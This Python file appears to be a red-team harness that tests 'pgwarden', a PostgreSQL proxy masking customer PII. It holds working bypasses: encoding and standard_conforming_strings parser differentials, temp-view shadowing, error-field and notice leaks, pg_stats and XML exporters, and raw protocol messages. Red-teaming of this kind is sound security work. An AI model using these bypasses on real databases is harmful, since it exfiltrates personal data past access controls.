    """Run one statement; count what reached the client also in the error's schema, table,
    column, data type and constraint fields (which ``Ctx.q`` does not read)."""
    ctx.stmt += 1
    ctx.out.statements += 1
    ctx.last_refused = False
    dog = ctx.watchdog(conn)
    try:
        with conn.cursor() as cur:
            cur.execute(ctx.sql(query))
            if cur.description:
                ctx.seen("rows", sdb.dump_io(cur.fetchall()))
    except psycopg.Error as exc:
        ctx._error(exc)
        d = exc.diag
        ctx.seen("error", "\n".join(v or "" for v in (d.schema_name, d.table_name, d.column_name,
                                                       d.datatype_name, d.constraint_name)))  # fmt: skip
    finally:
        dog.cancel()


@technique("error")
def t_error_column_field(ctx: Ctx) -> None:
    """A plpgsql function of one's own (static SQL, so pgwarden follows it) gathers e-mails
    and names in a loop and raises with RAISE ... USING COLUMN = s: pgwarden withholds the
    message, detail, hint and context, and relays the column-name field."""
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION scratch.rt2_colraise(a bigint, b bigint) RETURNS int LANGUAGE plpgsql AS $f$ "
             "DECLARE s text := ''; r record; BEGIN FOR r IN SELECT \"Email\" AS e, \"FullName\" AS n "
             "FROM crm.customers WHERE customer_id BETWEEN a AND b LOOP s := s || ',' || r.e || ' ' || r.n; "
             "END LOOP; RAISE EXCEPTION 'x' USING COLUMN = s; END $f$")  # fmt: skip
    time.sleep(2)
    for a in range(1, N_ALL, 1100):
        _q_error_fields(
            ctx,
            c,
            f"SELECT scratch.rt2_colraise({a}, {a + 1099}) FROM products WHERE product_id = 1",
        )


@technique("rows")
def t_deep_nesting(ctx: Ctx) -> None:
    """Scalar subqueries nested 150 deep (no labelled data): pgwarden's analysis fails with an
    internal error (named in the refusal); PostgreSQL itself runs the statement."""
    c = ctx.connect()
    for n in (100, 150):
        if ctx.q(c, "SELECT " + "(SELECT " * n + "1" + ")" * n) is None:
            ctx.out.notes.append(
                f"depth {n}: {ctx.out.error_samples[-1][:160] if ctx.out.error_samples else ''}"
            )


@technique("rows")
def t_analyst_typed_mask(ctx: Ctx) -> None:
    """Honest analyst work on masked data: the length of each e-mail (an integer), whether it
    is at one domain (a boolean), its characters as an array. pgwarden masks expressions of
    a masked column whole, and sends '****' in a column the server declared integer, boolean
    or text[]: can a standard client (psycopg, text format) still read the result?"""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    for q in ("SELECT customer_id, length(\"Email\") FROM customers WHERE tier = 'vip' LIMIT 5",
              "SELECT customer_id, \"Email\" LIKE '%@post.example' FROM customers WHERE tier = 'vip' LIMIT 5",
              "SELECT customer_id, string_to_array(\"Email\", '@') FROM customers WHERE tier = 'vip' LIMIT 5"):  # fmt: skip
        ctx.stmt += 1
        ctx.out.statements += 1
        try:
            with c.cursor() as cur:
                cur.execute(ctx.sql(q))
                rows = cur.fetchall()
            ctx.seen("rows", sdb.dump_io(rows))
            ctx.out.notes.append(f"read: {q[:60]} -> {rows[:1]!r:.60}")
        except psycopg.Error as exc:
            ctx._error(exc)
            if exc.sqlstate is None:
                ctx.out.internal_errors.append(f"client could not read the result: {q[:60]}: {exc}")
        except ValueError as exc:  # psycopg's int/bool loaders
            ctx.out.errors += 1
            ctx.out.internal_errors.append(f"client could not read the result: {q[:60]}: {exc}")


@technique("rows")
def t_temp_view_shadow(ctx: Ctx) -> None:
    """A temporary view named like a harmless relation pgwarden knows (pg_catalog.pg_settings;
    crm.products through the search_path): pg_temp is searched first for relations, so the
    server reads the view over crm.customers while pgwarden judges the harmless one. Needs
    only the TEMPORARY privilege."""
    c = ctx.connect()
    ctx.q(c, "CREATE TEMP VIEW pg_settings AS SELECT customer_id::text AS name, "
             '"Email" || \' \' || "FullName" AS setting FROM crm.customers')  # fmt: skip
    ctx.q(c, "SELECT name, setting FROM pg_settings")
    ctx.q(c, "CREATE TEMP VIEW products AS SELECT customer_id::int AS product_id, "
             "phone AS name FROM crm.customer_phones")  # fmt: skip
    ctx.q(c, "SELECT product_id, name FROM products")


@technique("rows")
def t_analyst_temp_view_shadow(ctx: Ctx) -> None:
    """The analyst: the same temporary view shadowing pg_catalog.pg_settings, unmasked."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "CREATE TEMP VIEW pg_settings AS SELECT customer_id::text AS name, "
             '"Email" || \' \' || "FullName" AS setting FROM crm.customers WHERE tier = \'vip\'')  # fmt: skip
    ctx.q(c, "SELECT name, setting FROM pg_settings")


@technique("rows")
def t_ddl_in_function_swap(ctx: Ctx) -> None:
    """The view swap committed for good: the CREATE OR REPLACE VIEW is the body of a SQL
    function of one's own, so no DDL statement passes pgwarden and its catalog is never
    reloaded. Seconds later, on a new connection, the view still passes as harmless."""
    c = ctx.connect()
    ctx.q(
        c,
        "CREATE OR REPLACE VIEW scratch.rt2_pv AS SELECT 1::bigint AS id, 'x'::text AS e, 'y'::text AS n",
    )
    ctx.q(c, "CREATE OR REPLACE FUNCTION scratch.rt2_pvswap() RETURNS int LANGUAGE sql AS $f$ "
             "CREATE OR REPLACE VIEW scratch.rt2_pv AS SELECT customer_id AS id, \"Email\" AS e, "
             "\"FullName\" AS n FROM crm.customers; SELECT 1 $f$")  # fmt: skip
    time.sleep(2)
    ctx.q(c, "SELECT id, e, n FROM scratch.rt2_pv WHERE id > 0")
    ctx.q(c, "SELECT scratch.rt2_pvswap()")
    time.sleep(5)
    ctx.q(ctx.connect(), "SELECT id, e, n FROM scratch.rt2_pv WHERE id > 0")


# -- the analyst: masked contact data ------------------------------------------------------


@technique("rows")
def t_analyst_unmask(ctx: Ctx) -> None:
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    for expr in ('"Email"', "\"Email\" || ''", 'reverse("Email")', 'lower("FullName")', "profile::text",
                 "profile->'contact'->>'email'", "(card).email", "card::text", "alt_phones::text",
                 "format('%s', c)", "row_to_json(c)::text"):  # fmt: skip
        ctx.q(c, f"SELECT customer_id, {expr} FROM customers c WHERE tier = 'vip'")
    ctx.q(c, "SELECT customer_id, phone FROM customer_phones_mobile WHERE customer_id % 17 = 0")
    ctx.q(c, "SELECT customer_id, email FROM customer_directory WHERE customer_id % 17 = 0")
    ctx.q(c, "SELECT name, email FROM search_customers('%') LIMIT 50")


# -- rt3: parser differentials, statistics, xml exporters --------------------------------------


@technique("rows")
def t_scs_off_startup(ctx: Ctx) -> None:
    """standard_conforming_strings=off given in the startup packet's options: the server reads
    'A\\' as an unterminated string (backslash escapes the quote) where a parser assuming the
    default reads the string A\\ followed by a comment. What pgwarden judges is SELECT 'A\\';
    what runs is SELECT 'A'' /* ', customer_id, "Email", "FullName" FROM customers ..."""
    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
    for a in range(1, N_ALL, 1100):
        ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- */")  # fmt: skip


@technique("rows")
def t_scs_off_set(ctx: Ctx) -> None:
    """As scs_off_startup, but standard_conforming_strings is switched off by SET, then by
    set_config() inside a SELECT, then in one simple-query string before the statement."""
    leak = ("SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
            "WHERE customer_id BETWEEN {a} AND {b} -- */")  # fmt: skip
    c = ctx.connect()
    ctx.q(c, "SET standard_conforming_strings = off")
    ctx.q(c, leak.format(a=1, b=1100))
    c2 = ctx.connect()
    ctx.q(c2, "SELECT set_config('standard_conforming_strings', 'off', false)")
    ctx.q(c2, leak.format(a=1101, b=2200))
    c3 = ctx.connect()
    ctx.q(c3, "SET standard_conforming_strings = off; " + leak.format(a=2201, b=N_ALL))


@technique("rows")
def t_analyst_scs_off(ctx: Ctx) -> None:
    """The analyst: the standard_conforming_strings parser differential; the mask is applied
    to the statement pgwarden parsed (a constant), not to the one the server ran."""
    ctx.out.analyst = True
    c = ctx.connect(
        sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'"
    )
    ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
             "WHERE tier = 'vip' -- */")  # fmt: skip
    c2 = ctx.connect(sdb.ANALYST)
    ctx.q(c2, "SET standard_conforming_strings = off")
    ctx.q(c2, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
              "WHERE tier = 'vip' -- */")  # fmt: skip


@technique("rows")
def t_sjis_backslash(ctx: Ctx) -> None:
    """client_encoding SJIS: the character 表 is the bytes 0x95 0x5C, the second one an ASCII
    backslash. In an E'' string a byte-wise or Latin-1 reading sees an escaped quote and a
    string running to the end; the server, converting SJIS first, sees E'表' and the columns."""
    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
    for a in range(1, N_ALL, 1100):
        ctx.q(c, "SELECT E'表', customer_id, \"Email\", \"FullName\" FROM customers "
                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- '")  # fmt: skip
    c2 = ctx.connect()
    ctx.q(c2, "SET client_encoding = 'SJIS'")
    ctx.q(c2, "SELECT E'表', customer_id, \"Email\" FROM customers WHERE customer_id > 0 -- '")


@technique("rows")
def t_pg_stats_histograms(ctx: Ctx) -> None:
    """pg_stats shows every column the role may SELECT: its histogram_bounds (101 values of a
    unique column such as the e-mail) and most_common_vals, as anyarray text. No customer
    table is named in the statement."""
    c = ctx.connect()
    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text, "
             "most_common_elems::text FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip
    ctx.q(c, "SELECT attname, histogram_bounds::text FROM pg_catalog.pg_stats "
             "WHERE tablename IN ('customers', 'legacy_customers', 'customer_phones_mobile', "
             "'customer_phones_other', 'customer_directory', 'customer_phones')")  # fmt: skip


@technique("rows")
def t_analyst_pg_stats(ctx: Ctx) -> None:
    """The analyst: pg_stats histogram bounds of the masked columns, unmasked."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text "
             "FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip


@technique("rows")
def t_table_to_xml(ctx: Ctx) -> None:
    """The SQL/XML exporters that take a relation, a schema or the database rather than a
    query text: table_to_xml('crm.customers'), schema_to_xml('crm'), database_to_xml()."""
    c = ctx.connect()
    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
    ctx.q(
        c, "SELECT table_to_xml_and_xmlschema('crm.customer_phones_mobile', true, false, '')::text"
    )
    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")
    ctx.q(c, "SELECT database_to_xml(true, false, '')::text")


@technique("rows")
def t_analyst_table_to_xml(ctx: Ctx) -> None:
    """The analyst: table_to_xml over crm.customers, unmasked?"""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")


@technique("rows")
def t_cursor_to_xml(ctx: Ctx) -> None:
    """A cursor declared over the customers (DECLARE returns no rows); cursor_to_xml() then
    fetches 5000 rows of it inside one SELECT that names no table."""
    c = ctx.connect(autocommit=False)
    ctx.q(
        c,
        f'DECLARE cx CURSOR FOR SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}',
    )
    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
    c.rollback()
    ctx.q(c, "DECLARE cy CURSOR WITH HOLD FOR SELECT customer_id, phone FROM customer_phones "
             "WHERE customer_id > 0")  # fmt: skip
    c.commit()
    ctx.q(c, "SELECT cursor_to_xml('cy', 5000, false, false, '')::text")
    c.rollback()


@technique("rows")
def t_analyst_cursor_to_xml(ctx: Ctx) -> None:
    """The analyst: cursor_to_xml over a cursor declared on the masked columns."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST, autocommit=False)
    ctx.q(c, "DECLARE cx CURSOR FOR SELECT customer_id, \"Email\", \"FullName\" FROM customers "
             "WHERE tier = 'vip'")  # fmt: skip
    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
    c.rollback()


@technique("error")
def t_analyst_error_cast(ctx: Ctx) -> None:
    """The analyst: a failed cast puts the value in the error message."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "SELECT customer_id, \"Email\"::int FROM customers WHERE tier = 'vip'")
    ctx.q(c, "SELECT (SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') FROM customers "
             "WHERE tier = 'vip')::int")  # fmt: skip
    for k in range(1, 40):
        ctx.q(
            c,
            f'SELECT ("Email" || \' \' || "FullName")::int FROM customers WHERE customer_id = {k}',
        )


@technique("notice")
def t_analyst_notice_notify(ctx: Ctx) -> None:
    """The analyst: a DO block raising notices, and pg_notify() to a channel it listens on."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT \"Email\", \"FullName\" FROM crm.customers "
             "WHERE tier = 'vip' LOOP RAISE NOTICE '%', r; END LOOP; END $$")  # fmt: skip
    ctx.q(c, "LISTEN rt3")
    ctx.q(c, "SELECT count(pg_notify('rt3', \"Email\" || ' ' || \"FullName\")) FROM customers "
             "WHERE tier = 'vip'")  # fmt: skip
    ctx.q(c, "SELECT 1")


@technique("rows")
def t_analyst_copy_out(ctx: Ctx) -> None:
    """The analyst may COPY out (copy_out is not denied to it): text, csv and binary formats."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    for q in ("COPY (SELECT customer_id, \"Email\", \"FullName\" FROM customers WHERE tier = 'vip') TO STDOUT",
              "COPY (SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers WHERE tier = 'vip') "
              "TO STDOUT WITH (FORMAT binary)",
              "COPY customer_phones_mobile TO STDOUT WITH (FORMAT csv)"):  # fmt: skip
        ctx.stmt += 1
        ctx.out.statements += 1
        buf = bytearray()
        try:
            with c.cursor() as cur, cur.copy(ctx.sql(q)) as cp:
                for chunk in cp:
                    buf += chunk
        except psycopg.Error as exc:
            ctx._error(exc)
            if c.closed:
                break
        ctx.seen("copy", buf.decode(errors="replace"))


@technique("rows")
def t_analyst_binary(ctx: Ctx) -> None:
    """The analyst in binary result format: jsonb, the composite card, the text[] array."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers "
             "WHERE tier = %s", ("vip",), binary=True)  # fmt: skip


@technique("rows")
def t_analyst_lateral_srf(ctx: Ctx) -> None:
    """The analyst: masked columns taken apart by set-returning functions in FROM (LATERAL):
    jsonb_each_text, jsonb_to_record, unnest, regexp_split_to_table, XMLTABLE."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    v = "c.tier = 'vip' AND c.customer_id <> 3111"  # the vip canary would quarantine at once
    for q in (f"SELECT c.customer_id, j.key, j.value FROM customers c, jsonb_each_text(c.profile->'contact') j WHERE {v}",
              f"SELECT c.customer_id, r.name FROM customers c, jsonb_to_record(c.profile) AS r(name text) WHERE {v}",
              f"SELECT c.customer_id, p FROM customers c, unnest(c.alt_phones) p WHERE {v}",
              f"SELECT c.customer_id, s FROM customers c, regexp_split_to_table(c.\"Email\", '@') s WHERE {v}",
              f"SELECT c.customer_id, s FROM customers c, unnest(ARRAY[c.\"FullName\"]) s WHERE {v}",
              f"SELECT c.customer_id, x.e FROM customers c, XMLTABLE('/r' PASSING xmlelement(name r, c.\"Email\") "
              f"COLUMNS e text PATH '.') x WHERE {v}",
              f"SELECT c.customer_id, k.* FROM customers c, LATERAL (SELECT (c.card).*) k WHERE {v}"):  # fmt: skip
        n = ctx.stmt + 1
        ctx.q(c, q)
        ctx.out.notes.append(f"{len(ctx.out.per_statement.get(n, ()))} unmasked: {q[:90]}")


@technique("rows")
def t_update_from_returning(ctx: Ctx) -> None:
    """UPDATE of an unlabelled column of the tickets (agents may touch updated_at), joined to
    the customers, RETURNING the customers' columns; in a transaction rolled back."""
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at FROM customers c '
             'WHERE c.customer_id = t.customer_id RETURNING c.customer_id, c."Email", c."FullName"')  # fmt: skip
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "BEGIN")
    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at WHERE ticket_id > 0 RETURNING ticket_id, '
             '(SELECT "Email" FROM customers c WHERE c.customer_id = t.customer_id)')  # fmt: skip
    ctx.q(c, "ROLLBACK")


@technique("rows")
def t_status_stash(ctx: Ctx) -> None:
    """The writable ticket status (an unlabelled column) set to each customer's e-mail and name
    in a transaction, read back by a SELECT of the tickets, then rolled back."""
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, 'UPDATE "Tickets" t SET status = c."Email" || \' \' || c."FullName" FROM customers c '
             "WHERE c.customer_id = t.customer_id")  # fmt: skip
    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "BEGIN")
    ctx.q(c, 'UPDATE "Tickets" SET status = (SELECT "Email" FROM customers c '
             'WHERE c.customer_id = "Tickets".customer_id) WHERE ticket_id > 0')  # fmt: skip
    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
    ctx.q(c, "ROLLBACK")


@technique("rows")
def t_large_object_stash(ctx: Ctx) -> None:
    """Each customer written to a large object of one's own (lo_from_bytea); the objects read
    back with lo_get over pg_largeobject_metadata, which names no customer table."""
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, "SELECT count(lo_from_bytea(0, convert_to(\"Email\" || ' ' || \"FullName\", 'UTF8'))) "
             f"FROM customers WHERE {ALL}")  # fmt: skip
    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "SELECT lo_from_bytea(0, convert_to(\"Email\", 'UTF8')) FROM customers "
             "WHERE customer_id BETWEEN 1 AND 15")  # fmt: skip
    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
    ctx.q(c, "SELECT lo_unlink(oid) FROM pg_largeobject_metadata")


@technique("rows")
def t_budget_race(ctx: Ctx) -> None:
    """The agent's own customers, 15 a statement, on 24 connections at once: does the hourly
    budget hold when the statements are judged concurrently?"""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
    conns = [ctx.connect() for _ in range(24)]
    chunks = [mine[i : i + 15] for i in range(0, len(mine), 15)]
    barrier = threading.Barrier(len(conns))

    lock = threading.Lock()

    def run(k: int) -> None:
        barrier.wait()
        for j in range(k, len(chunks), len(conns)):
            ids = ",".join(map(str, chunks[j]))
            with lock:
                ctx.stmt += 1
                ctx.out.statements += 1
                n = ctx.stmt
            try:
                rows = conns[k].execute(ctx.sql('SELECT customer_id, "FullName", "Email" FROM customers '
                                                f"WHERE customer_id IN ({ids})")).fetchall()  # fmt: skip
            except psycopg.Error as exc:
                with lock:
                    ctx._error(exc)
                continue
            with lock:
                ctx.seen("rows", sdb.dump_io(rows), stmt=n)

    ts = [threading.Thread(target=run, args=(k,)) for k in range(len(conns))]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    ctx.out.notes.append(f"own customers: {len(mine)}")


@technique("rows")
def t_scs_off_expressions(ctx: Ctx) -> None:
    """The standard_conforming_strings differential again, with expressions rather than plain
    columns (a RowDescription then names no table column), and the switch made in the same
    simple-query string as the statement it changes."""
    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
            "FROM customers WHERE customer_id BETWEEN {a} AND {b} AND customer_id <> ALL('{{777,1555,2333,2999,3111}}') -- */")  # fmt: skip
    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
    r = ctx.q(c, leak.format(a=1, b=1100))
    ctx.out.notes.append(f"startup option: {r!r:.100}")
    c2 = ctx.connect()
    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak.format(a=1101, b=2200))
    ctx.out.notes.append(f"same string: {r!r:.100}")
    c3 = ctx.connect()
    ctx.q(c3, "BEGIN")
    ctx.q(c3, "SET LOCAL standard_conforming_strings = off")
    r = ctx.q(c3, leak.format(a=2201, b=N_ALL))
    ctx.out.notes.append(f"SET LOCAL: {r!r:.100}")
    ctx.q(c3, "ROLLBACK")


@technique("rows")
def t_analyst_scs_off_expressions(ctx: Ctx) -> None:
    """The analyst: the standard_conforming_strings differential with expressions, canaries
    left out."""
    ctx.out.analyst = True
    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
            "FROM customers WHERE tier = 'vip' AND customer_id <> 3111 -- */")  # fmt: skip
    c = ctx.connect(
        sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'"
    )
    r = ctx.q(c, leak)
    ctx.out.notes.append(f"startup option: {r!r:.100}")
    c2 = ctx.connect(sdb.ANALYST)
    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak)
    ctx.out.notes.append(f"same string: {r!r:.100}")


@technique("rows")
def t_honest_sjis_client(ctx: Ctx) -> None:
    """Honest use from a client whose encoding is Shift-JIS (a Japanese helpdesk desktop): the
    agent's own customer, with and without a Japanese literal in the statement."""
    k = min(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
    for q in (f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}',
              "SELECT '表示' AS label",
              f"SELECT customer_id, \"Email\", '表示' AS label FROM customers WHERE customer_id = {k}",
              f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND region <> '東京'"):  # fmt: skip
        if ctx.q(c, q) is None:
            ctx.out.notes.append(
                f"refused: {q[:70]} -> {ctx.out.error_samples[-1][:140] if ctx.out.error_samples else ''}"
            )


@technique("rows")
def t_scs_off_allowlisted_shape(ctx: Ctx) -> None:
    """standard_conforming_strings=off in the startup packet, and a statement that, read with
    the default, is the helpdesk application's own message-list query (its fingerprint is on
    the allow-list): the rest hides in a block comment that begins inside what the server
    reads as a string literal. The server runs a UNION ALL of every customer's e-mail and name
    packed into two rows, the trailing ORDER BY being a line comment to it."""
    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
    agg = "string_agg(\"Email\" || ' ' || \"FullName\", ',')"
    ctx.q(c, "SELECT m.author, m.body, m.sent_at FROM ticket_messages m JOIN \"Tickets\" t "
             "ON t.ticket_id = m.ticket_id WHERE t.\"TicketNo\" = 'A\\' /* ' "
             f"UNION ALL SELECT 'x', {agg}, now() FROM customers WHERE customer_id BETWEEN 1 AND 1650 "
             f"UNION ALL SELECT 'y', {agg}, now() FROM customers WHERE customer_id > 1650 "
             "-- */ ORDER BY m.sent_at")  # fmt: skip


@technique("rows")
def t_client_encoding_differential(ctx: Ctx) -> None:
    """Client encodings whose two-byte characters end in 0x5C (an ASCII backslash): GBK 乗,
    BIG5 么, Shift-JIS 予, chosen in the startup packet. In E'乗' a byte-wise reading sees an
    escaped quote; the server, converting first, sees a closed string and the columns after
    it. Also LATIN1, whose bytes are no valid UTF-8."""
    for enc, ch in (("GBK", "乗"), ("BIG5", "么"), ("SJIS", "予")):
        c = ctx.connect(options=f"'-c statement_timeout=30000 -c client_encoding={enc}'")
        ctx.q(c, f"SELECT E'{ch}', customer_id + 0 AS k, \"Email\" || '' AS e FROM customers "
                 "WHERE customer_id BETWEEN 1 AND 700 -- '")  # fmt: skip


@technique("rows")
def t_honest_latin1_gbk_client(ctx: Ctx) -> None:
    """Honest use from clients in LATIN1 (a European desktop) and GBK: the agent's own
    customer, with a non-ASCII literal in the statement."""
    k = min(ctx.env.ds.need_to_know(ATTACKER))
    for enc, word in (("LATIN1", "José"), ("GBK", "北京"), ("BIG5", "台北"), ("WIN1252", "Müller")):
        c = ctx.connect(options=f"'-c statement_timeout=30000 -c client_encoding={enc}'")
        q = f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k} AND "FullName" <> \'{word}\''
        if ctx.q(c, q) is None:
            ctx.out.notes.append(
                f"{enc} refused: {q[-40:]} -> {ctx.out.error_samples[-1][:140] if ctx.out.error_samples else ''}"
            )


@technique("rows")
def t_scs_off_set_config(ctx: Ctx) -> None:
    """standard_conforming_strings switched off by set_config() inside a SELECT (no SET
    statement for pgwarden to follow), then the differential statement with expressions."""
    c = ctx.connect()
    ctx.q(c, "SELECT set_config('standard_conforming_strings', 'off', false)")
    ctx.q(c, "SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
             "FROM customers WHERE customer_id BETWEEN 1 AND 700 AND customer_id <> 777 -- */")  # fmt: skip


def _raw_exchange(ctx: Ctx, conn: psycopg.Connection, msg: bytes) -> str:
    """Send raw protocol messages (ending in Sync) on an idle psycopg connection's socket and
    read everything up to ReadyForQuery, counting data rows and errors as ``_fastpath_call``."""
    import os
    import socket
    import struct

    ctx.stmt += 1
    ctx.out.statements += 1
    ctx.last_refused = False
    s = socket.socket(fileno=os.dup(conn.pgconn.socket))
    s.settimeout(HANG_SECONDS)
    buf = b""
    texts: list[str] = []
    try:
        s.sendall(msg)
        while True:
            while len(buf) < 5:
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionError("connection closed")
                buf += chunk
            n = struct.unpack("!I", buf[1:5])[0]
            while len(buf) < 1 + n:
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionError("connection closed")
                buf += chunk
            kind, payload, buf = buf[0:1], buf[5 : 1 + n], buf[1 + n :]
            text = payload.decode(errors="replace")
            if kind == b"E":
                fields = dict((f[:1], f[1:]) for f in text.split("\0") if f)
                ctx.seen("error", text)
                ctx.out.errors += 1
                if len(ctx.out.error_samples) < 4:
                    ctx.out.error_samples.append(f"{fields.get('C')}: {fields.get('M', '')[:200]}")
                if fields.get("C") == "42501" and "pgwarden" in text:
                    ctx.out.refused += 1
                    ctx.last_refused = True
                elif fields.get("C", "").startswith("XX"):
                    ctx.out.internal_errors.append(text[:200])
            elif kind == b"D":
                ctx.seen("rows", text)
            texts.append(kind.decode() + ":" + text)
            if kind == b"Z":
                break
    except (OSError, ConnectionError) as exc:
        ctx.out.internal_errors.append(f"connection lost: {exc}")
    finally:
        s.close()
    return "\n".join(texts)


def _msg(kind: bytes, body: bytes) -> bytes:
    import struct

    return kind + struct.pack("!I", len(body) + 4) + body


def _execute_portal(portal: str, max_rows: int = 0) -> bytes:
    import struct

    return _msg(b"E", portal.encode() + b"\0" + struct.pack("!I", max_rows))


def _bind(portal: str, stmt: str) -> bytes:
    return _msg(b"B", portal.encode() + b"\0" + stmt.encode() + b"\0" + b"\0\0" + b"\0\0" + b"\0\0")


SYNC = b"S\0\0\0\4"


@technique("rows")
def t_protocol_execute_sql_cursor(ctx: Ctx) -> None:
    """A SQL cursor is a portal: DECLARE it (no rows come back), then fetch it with the
    protocol's Execute message naming the cursor, with no Bind before it and no FETCH
    statement for pgwarden to judge."""
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, "DECLARE rt3c CURSOR FOR SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
             "FROM customers WHERE customer_id BETWEEN 1 AND 700")  # fmt: skip
    r = _raw_exchange(ctx, c, _execute_portal("rt3c") + SYNC)
    ctx.out.notes.append(f"Execute 'rt3c': {r[:100]!r}")
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "DECLARE rt3h CURSOR WITH HOLD FOR SELECT customer_id, \"Email\", \"FullName\" "
             "FROM customers WHERE customer_id > 700")  # fmt: skip
    r = _raw_exchange(ctx, c, _execute_portal("rt3h", 2000) + SYNC)
    ctx.out.notes.append(f"Execute 'rt3h': {r[:100]!r}")
    ctx.q(c, "CLOSE rt3h")


@technique("rows")
def t_protocol_bind_sql_prepared(ctx: Ctx) -> None:
    """SQL PREPARE and the protocol's Parse share one namespace: a statement prepared with
    PREPARE is bound and executed with protocol Bind/Execute messages (no EXECUTE
    statement); and a protocol-level statement pgwarden saw parsed harmless is DEALLOCATEd
    and re-PREPAREd under the same name before its Bind."""
    c = ctx.connect()
    ctx.q(c, "PREPARE rt3p AS SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
             "FROM customers WHERE customer_id BETWEEN 1 AND 700")  # fmt: skip
    r = _raw_exchange(ctx, c, _bind("", "rt3p") + _execute_portal("") + SYNC)
    ctx.out.notes.append(f"Bind rt3p: {r[:100]!r}")
    res = c.pgconn.prepare(b"rt3q", b"SELECT 1::bigint AS k, 'x'::text AS e")
    ctx.out.notes.append(f"Parse rt3q: {res.status}")
    ctx.q(c, "DEALLOCATE rt3q")
    ctx.q(c, "PREPARE rt3q AS SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
             "FROM customers WHERE customer_id BETWEEN 701 AND 1400")  # fmt: skip
    r = _raw_exchange(ctx, c, _bind("", "rt3q") + _execute_portal("") + SYNC)
    ctx.out.notes.append(f"Bind rt3q: {r[:100]!r}")


@technique("rows")
def t_honest_shapes_rt3(ctx: Ctx) -> None:
    """Honest use: the agent's own customers read in shapes application code writes -- an
    ANY(array) parameter, FETCH FIRST, an EXISTS over the agent's open tickets, COALESCE over
    a LEFT JOIN, a JOIN ... USING, a CASE on the tier, a named psycopg cursor over three of
    them, an ORDER BY of a labelled column. Which are refused, and why?"""
